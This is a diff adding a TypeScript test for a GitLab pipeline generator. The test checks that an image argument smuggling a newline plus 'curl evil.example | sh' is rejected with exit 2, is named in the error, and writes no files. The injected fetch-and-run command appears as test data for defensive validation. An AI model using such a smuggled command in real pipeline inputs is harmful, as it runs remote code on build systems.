@@ -10,6 +10,7 @@ import * as os from 'os';
 import * as path from 'path';
 import { parse } from 'yaml';
 import { generateGitlabPipelines, GitlabPipelineOptions, PipelineInputError } from '../../lib/pipeline/gitlab';
+import { cleanup, kommunalInProcess, musterstadtFleet } from './fixtures';
 
 const HAS_BASH = spawnSync('bash', ['-c', 'true']).status === 0;
 if (!HAS_BASH) console.warn('bash is not on PATH: the generated script lines are not run');
@@ -113,5 +114,19 @@ describe('generated GitLab scripts quote every value', () => {
     }
     expect(error).toBeInstanceOf(PipelineInputError);
     expect((error as PipelineInputError).problems.join('\n')).toMatch(message);
+  });
+});
+
+describe('kommunal pipeline with a value a script line cannot carry', () => {
+  let dir: string;
+  afterEach(() => cleanup(dir));
+
+  it('fails with exit 2, names the value and writes nothing', async () => {
+    dir = musterstadtFleet();
+    fs.appendFileSync(path.join(dir, 'fleet.yaml'), 'state:\n  backend: http\n');
+    const r = await kommunalInProcess(['pipeline', '--image', 'registry/img:1\ncurl evil.example | sh'], dir);
+    expect(r.status).toBe(2);
+    expect(r.stderr).toContain('image "registry/img:1\\ncurl evil.example | sh" holds the control character U+000A at position 15');
+    expect(fs.existsSync(path.join(dir, 'pipelines'))).toBe(false);
   });
 });
